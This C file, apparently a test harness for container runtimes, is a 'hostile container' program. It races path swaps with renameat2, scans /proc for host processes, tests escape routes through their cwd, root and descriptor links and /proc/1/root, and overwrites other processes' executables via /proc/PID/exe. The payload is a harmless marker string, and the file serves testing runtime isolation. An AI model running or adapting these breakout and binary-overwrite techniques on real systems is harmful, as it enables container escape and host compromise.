/* attacker.c: what a hostile container does faster than a shell can. Static, and told what to do by its first word.
 *
 *   swap A B         exchanges two names for ever
 *   race MARKER      looks into every process that appears, for ever: its program, its descriptors, its directories.
 *                    Says `reached …` for what it could open, `wrote PID` when it has overwritten a program that is
 *                    not the container's, `escaped …` when MARKER (a path of the host) can be reached from there
 *   fds              names its own descriptors
 *   wait             is there for a moment */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/fs.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char payload[] = "OVERWRITTEN BY THE CONTAINER\n";

static int swap(const char *a, const char *b)
{
	puts("ready");
	fflush(stdout);
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0 && errno != ENOENT)
			return perror("swap"), 1;
}

/* The program of another process: held open for reading first, written to as soon as nobody executes it any more. */
static void overwrite(const char *pid, const struct stat *own)
{
	char path[PATH_MAX];
	struct stat st, other;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	/* What lies in the container's own root is its own business: busybox, this program. */
	char name[PATH_MAX] = "";
	if (readlink(path, name, sizeof name - 1) < 0 || fstat(fd, &st) < 0 ||
	    (st.st_dev == own->st_dev && st.st_ino == own->st_ino) ||
	    (stat(name, &other) == 0 && other.st_dev == st.st_dev && other.st_ino == st.st_ino)) {
		close(fd);
		return;
	}
	printf("reached program %s\n", name);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	for (int tries = 0; tries < 300000; tries++) {
		int again = open(path, O_WRONLY | O_CLOEXEC);
		if (again >= 0) {
			if (write(again, payload, sizeof payload - 1) > 0)
				printf("wrote %s\n", name);
			close(again);
			break;
		}
		if (errno != ETXTBSY)
			break;
		sched_yield();
	}
	fflush(stdout);
	close(fd);
}

static void look(const char *pid, const char *what, const char *marker)
{
	char path[PATH_MAX], name[PATH_MAX] = "";
	snprintf(path, sizeof path, "/proc/%s/%s", pid, what);
	if (readlink(path, name, sizeof name - 1) < 0)
		return;
	int dir = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC | O_NONBLOCK);
	if (dir < 0)
		return;
	/* Up as far as it goes, and from there by the host's path; and as a procfs, whose process 1 is the host's. */
	char from[PATH_MAX];
	const char *ways[] = { "../../../../../../../../../../../..", ".", "1/root" };
	for (int i = 0; i < 3; i++) {
		snprintf(from, sizeof from, "%s%s", ways[i], marker);
		if (faccessat(dir, from, F_OK, 0) == 0) {
			printf("escaped by %s of %s: %s\n", what, pid, name);
			fflush(stdout);
		}
	}
	close(dir);
}

static int race(const char *marker)
{
	struct stat own;
	char self[16];
	if (stat("/proc/self/exe", &own) < 0)
		return 1;
	snprintf(self, sizeof self, "%d", (int)getpid());
	puts("ready");
	fflush(stdout);
	for (;;) {
		DIR *proc = opendir("/proc");
		for (struct dirent *e; proc && (e = readdir(proc));) {
			if (e->d_name[0] < '1' || e->d_name[0] > '9' || strcmp(e->d_name, self) == 0)
				continue;
			look(e->d_name, "cwd", marker);
			look(e->d_name, "root", marker);
			for (int fd = 0; fd < 20; fd++) {
				char what[16];
				snprintf(what, sizeof what, "fd/%d", fd);
				look(e->d_name, what, marker);
			}
			overwrite(e->d_name, &own); /* last: it waits until the program has ended */
		}
		if (proc)
			closedir(proc);
	}
}

static int fds(void)
{
	char path[64], name[PATH_MAX];
	for (int fd = 0; fd < 1024; fd++) {
		if (fcntl(fd, F_GETFD) < 0)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, name, sizeof name - 1);
		printf("%d %.*s\n", fd, n < 0 ? 1 : (int)n, n < 0 ? "?" : name);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		return swap(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "race") == 0)
		return race(argv[2]);
	if (argc == 2 && strcmp(argv[1], "fds") == 0)
		return fds();
	if (argc == 2 && strcmp(argv[1], "wait") == 0)
		return usleep(50000);
	return 2;
}
